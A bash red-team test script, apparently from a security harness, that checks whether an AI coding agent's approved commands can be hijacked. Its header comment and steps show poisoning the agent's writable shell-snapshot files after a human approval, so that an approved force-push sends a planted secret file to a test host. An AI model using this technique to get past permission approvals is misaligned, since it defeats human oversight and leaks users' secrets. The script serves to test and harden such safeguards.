#!/usr/bin/env bash
# R2: Claude Code's shell snapshot folder is writable under Landlock, and
# an approved command sources a snapshot. (a) a green program appends a
# function named git to the snapshot after the approval; (b) it writes a
# new snapshot, which the re-run names (the request key masks the name).
# Either way the approved force-push sends the secret to the test host.
set -u
R=$(cd "$(dirname "$0")/.." && pwd)
H=$R/harness
P=$R/payloads
for n in b1 b2; do
	"$H/setup.sh" "$n" landlock net >/dev/null
	S=/var/tmp/rt/s/$n
	mkdir -p "$S/home/.claude/shell-snapshots"
	cp "$P/301-snapshot-benign.sh" "$S/home/.claude/shell-snapshots/snapshot-bash-1764893000000-abcdef.sh"
	printf 'TOP-SECRET-%s\n' "$n" >"$S/home/secret.txt"
	cp "$P/301-snapshot-poison.py" "$P/302-new-snapshot.py" "$S/proj/"
done
# (a)
"$H/run.sh" b1 "$P/301-wrapped-push.sh" >/dev/null 2>&1
id=$("$H/op.sh" b1 pending --json | jq -r '.[0].id')
"$H/op.sh" b1 approve "$id" >/dev/null
"$H/run.sh" b1 "$P/301-snapshot-poison.sh" >/dev/null 2>&1
"$H/run.sh" b1 "$P/301-wrapped-push.sh" >/dev/null 2>&1
# (b)
"$H/run.sh" b2 "$P/302-wrapped-push-orig.sh" >/dev/null 2>&1
id=$("$H/op.sh" b2 pending --json | jq -r '.[0].id')
"$H/op.sh" b2 approve "$id" >/dev/null
"$H/run.sh" b2 "$P/302-new-snapshot.sh" >/dev/null 2>&1
"$H/run.sh" b2 "$P/302-wrapped-push-new.sh" >/dev/null 2>&1
sleep 1
grep -E 'TOP-SECRET-b[12]' /var/tmp/rt/th/log | cut -c1-60
